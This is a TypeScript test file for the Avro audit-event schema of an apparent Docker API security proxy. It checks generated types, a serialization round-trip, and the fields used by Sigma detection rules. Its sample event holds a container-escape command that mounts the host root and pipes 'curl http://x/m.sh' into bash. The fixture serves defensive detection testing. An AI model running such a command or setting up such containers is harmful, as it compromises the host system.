import * as avro from 'avsc';
import * as fs from 'fs';
import * as path from 'path';
import { leafFields } from '../detectors/sigma/ir';
import { loadRules } from '../detectors/sigma/loader';
import { listYamlFiles } from '../pipelines/adapters/rule-files';
import type { DockerApiEvent } from './generated/docker-api-event';
import { AVRO_DIR, generatedFiles } from './generate-types';

type AvroSchema =
  | string
  | AvroSchema[]
  | { type: AvroSchema; fields?: Array<{ name: string; type: AvroSchema }>; items?: AvroSchema; name?: string };

function readSchema(name: string): AvroSchema {
  return JSON.parse(fs.readFileSync(path.join(AVRO_DIR, name), 'utf8')) as AvroSchema;
}

/** Whether a dotted field path exists in the schema (through unions, arrays and nested records). */
function hasPath(schema: AvroSchema, segments: string[]): boolean {
  if (segments.length === 0) return true;
  if (Array.isArray(schema)) return schema.some((s) => hasPath(s, segments));
  if (typeof schema === 'string') return false;
  if (schema.type === 'array') return hasPath(schema.items as AvroSchema, segments);
  if (schema.type === 'map') return segments.length === 1; // map<string>: any one key (dockguard.query.<param>)
  if (schema.type === 'record') {
    const f = schema.fields?.find((x) => x.name === segments[0]);
    return f !== undefined && hasPath(f.type, segments.slice(1));
  }
  return typeof schema.type === 'object' && hasPath(schema.type, segments);
}

const sample: DockerApiEvent = {
  timestamp: Date.parse('2026-11-28T10:01:09Z'),
  event: { id: '1b4e28ba-2fa1-11d2-883f-0016d3cca427', action: 'container-create', outcome: 'success' },
  collector: { id: 'node-1', mode: 'proxy' },
  host: { name: 'docker-01' },
  source: { ip: '203.0.113.7', port: 40126 },
  tls: null,
  user: { name: null },
  user_agent: { original: 'Go-http-client/1.1' },
  http: { request: { method: 'POST', body: { bytes: 212 } }, response: { status_code: 201 } },
  url: { original: '/v1.41/containers/create', path: '/containers/create', query: null },
  container: { id: '4f2a9c', name: null, image: { name: 'alpine' } },
  process: {
    args: ['chroot', '/mnt', '/bin/sh', '-c', 'curl -sL4 http://x/m.sh | bash'],
    command_line: "chroot /mnt /bin/sh -c 'curl -sL4 http://x/m.sh | bash'",
  },
  dockguard: {
    endpoint: '/containers/create',
    api_version: '1.41',
    anomalies: [],
    resource_id: '4f2a9c',
    request: { body: '{"Image":"alpine"}', body_complete: true, body_error: null, redacted: [] },
    decision: { allowed: true, rule: null, reason: null },
    container: {
      entrypoint: [],
      cmd: ['chroot', '/mnt', '/bin/sh', '-c', 'curl -sL4 http://x/m.sh | bash'],
      binds: ['/:/mnt'],
      mounts: [],
      privileged: false,
      cap_add: [],
      devices: [],
      pid_mode: null,
      ipc_mode: null,
      network_mode: null,
      userns_mode: null,
      security_opt: [],
      user: null,
      env_names: [],
      restart_policy: null,
      cap_drop: [],
      cgroupns_mode: null,
      uts_mode: null,
      readonly_rootfs: false,
      volumes_from: [],
      tty: false,
      working_dir: null,
      labels: [],
      extra_hosts: [],
      sysctls: [],
      oom_kill_disable: false,
    },
    exec: null,
    image: null,
    plugin: null,
    service: null,
    volume: null,
    network: null,
    query: { name: 'c1' },
  },
};

describe('Avro schemas', () => {
  it('the generated TypeScript types are up to date (run npm run schemas:types)', () => {
    const files = generatedFiles();
    expect(files.length).toBeGreaterThan(0);
    for (const g of files) expect(fs.readFileSync(g.file, 'utf8')).toBe(g.text);
  });

  it('an audit event typed by the generated interface round-trips through Avro unchanged', () => {
    const type = avro.Type.forSchema(readSchema('docker-api-event.avsc') as avro.Schema);
    const buf = type.toBuffer(sample);
    expect(buf.length).toBeLessThan(JSON.stringify(sample).length);
    expect(type.fromBuffer(buf)).toEqual(sample);
  });

  it('every field the Docker rule pack reads exists in the audit event schema', () => {
    const schema = readSchema('docker-api-event.avsc');
    const files = listYamlFiles(path.resolve(__dirname, '../sigma-rules'), { tests: false });
    const load = loadRules(files.map((f) => ({ file: f, text: fs.readFileSync(f, 'utf8') })));
    const fields = new Set<string>();
    for (const r of load.rules) leafFields(r.node, fields);
    expect(fields.size).toBeGreaterThan(3);
    for (const f of fields) expect([f, hasPath(schema, f.split('.'))]).toEqual([f, true]);
  });
});
